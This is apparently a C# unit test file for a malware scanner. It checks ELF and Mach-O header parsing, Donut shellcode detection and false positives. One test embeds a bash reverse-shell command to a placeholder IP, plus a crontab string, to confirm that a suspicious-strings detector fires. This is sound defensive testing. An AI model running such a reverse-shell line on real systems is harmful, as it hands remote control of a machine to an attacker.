using Crible.Model;

namespace Crible.Tests.Scanners.Executables;

public sealed class UnixAndShellcodeTests
{
    [Fact]
    public async Task The_strelka_elf_reports_its_header_libraries_and_imports_and_is_clean()
    {
        var report = await TestEngine.Default.AnalyseFileAsync(TestPaths.Corpus("strelka-fixtures", "test.elf"));

        Assert.Equal(Verdict.Clean, report.Verdict);
        var findings = report.Nodes[0].Findings.Where(f => f.Scanner == "elf").ToList();
        Assert.Contains(findings, f => f.Id == "elf-header" && f.Evidence!.Contains("64-bit little-endian x86-64", StringComparison.Ordinal) && f.Evidence.Contains("dynamically linked", StringComparison.Ordinal));
        Assert.Contains(findings, f => f.Id == "libraries" && f.Evidence!.Contains("libc.so.6", StringComparison.Ordinal));
        Assert.Contains(findings, f => f.Id == "imports");
    }

    [Fact]
    public async Task The_strelka_macho_reports_its_header_and_libraries_and_is_clean()
    {
        var report = await TestEngine.Default.AnalyseFileAsync(TestPaths.Corpus("strelka-fixtures", "test.macho"));

        Assert.Equal(Verdict.Clean, report.Verdict);
        var findings = report.Nodes[0].Findings.Where(f => f.Scanner == "macho").ToList();
        Assert.Contains(findings, f => f.Id == "macho-header" && f.Evidence!.StartsWith("64-bit x86-64 executable", StringComparison.Ordinal));
        Assert.Contains(findings, f => f.Id == "libraries" && f.Evidence!.Contains("libSystem", StringComparison.Ordinal));
    }

    [Fact]
    public async Task An_elf_with_reverse_shell_strings_is_suspicious()
    {
        var elf = await File.ReadAllBytesAsync(TestPaths.Corpus("strelka-fixtures", "test.elf"));
        byte[] modified = [.. elf, .. "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1\0* * * * * crontab\0"u8.ToArray()];

        var report = await TestEngine.Default.AnalyseAsync(modified, "x");

        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "suspicious-strings" && f.Attack.Contains("T1059.004") && f.Attack.Contains("T1053.003"));
    }

    [Theory]
    [InlineData("test_donut.bin")]
    [InlineData("test_donut_compressed.bin")]
    public async Task Donut_shellcode_is_malicious(string name)
    {
        var report = await TestEngine.Default.AnalyseFileAsync(TestPaths.Corpus("strelka-fixtures", name));

        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "donut-loader" && f.Attack.Contains("T1620"));
    }

    [Fact]
    public async Task Random_data_that_starts_with_a_call_is_not_donut()
    {
        var random = new Random(7);
        var data = new byte[4096];
        random.NextBytes(data);
        data[0] = 0xE8;

        var report = await TestEngine.Default.AnalyseAsync(data, "blob.bin");

        Assert.DoesNotContain(report.Nodes[0].Findings, f => f.Scanner == "donut");
    }
}
